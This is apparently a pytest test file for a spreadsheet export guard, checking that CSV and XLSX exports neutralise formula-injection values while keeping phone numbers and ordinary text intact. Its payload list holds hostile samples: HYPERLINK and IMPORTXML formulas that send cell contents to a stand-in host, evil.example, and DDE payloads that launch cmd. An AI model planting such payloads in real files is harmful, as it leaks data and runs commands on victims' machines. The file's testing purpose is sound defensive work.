"""Formula injection: known payloads never reach a spreadsheet as formulas, real data stays intact."""

from __future__ import annotations

import pytest
from export_helpers import add_customer, read_csv
from openpyxl import load_workbook

from workbench.export.guard import guard, needs_guard
from workbench.export.run import ExportRequest, export_customers

# Payloads from the OWASP CSV-injection page and published DDE proofs of concept.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")",
    "@",
]
HARMLESS = ["+4930123456", "+1 (555) 010-9999", "-12.50", "-3", "+49 30 1234567", "Müller", "", "a=b", "C-000001"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_neutralized(payload):
    assert needs_guard(payload)
    assert guard(payload) == "'" + payload


@pytest.mark.parametrize("value", HARMLESS)
def test_numbers_phones_and_ordinary_text_are_left_alone(value):
    assert guard(value) == value


def test_csv_export_neutralizes_payloads_in_names_and_keeps_e164_phones(sqlite_master, tmp_path):
    for number, payload in enumerate(PAYLOADS):
        add_customer(sqlite_master, first=payload, last=f"Case{number}", company=payload,
                     emails=[(f"p{number}@example.com", "home")], phones=[("+4930123456", "mobile")])
    out = tmp_path / "mc.csv"
    export_customers(sqlite_master, ExportRequest("mailchimp"), out)
    rows = read_csv(out)
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        payload = PAYLOADS[int(row["Last Name"].removeprefix("Case"))]
        assert row["First Name"] == "'" + payload
        assert row["Company"] == "'" + payload
        assert row["Phone Number"] == "+4930123456"


def test_xlsx_export_writes_payloads_as_text_cells_never_formulas(sqlite_master, tmp_path):
    for number, payload in enumerate(PAYLOADS):
        add_customer(sqlite_master, first=payload, last=f"Case{number}", company="-12.50",
                     emails=[(f"p{number}@example.com", "home")])
    out = tmp_path / "all.xlsx"
    export_customers(sqlite_master, ExportRequest("xlsx", fields=("first_name", "last_name", "company")), out)
    sheet = load_workbook(out).active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(PAYLOADS)
    for first, last, company in rows:
        payload = PAYLOADS[int(last.value.removeprefix("Case"))]
        assert first.data_type == "s", f"{payload!r} became a {first.data_type} cell"
        assert first.value == payload.replace("\r", "\n")  # XML itself reads a CR back as LF
        assert first.quotePrefix
        assert company.value == "-12.50" and not company.quotePrefix
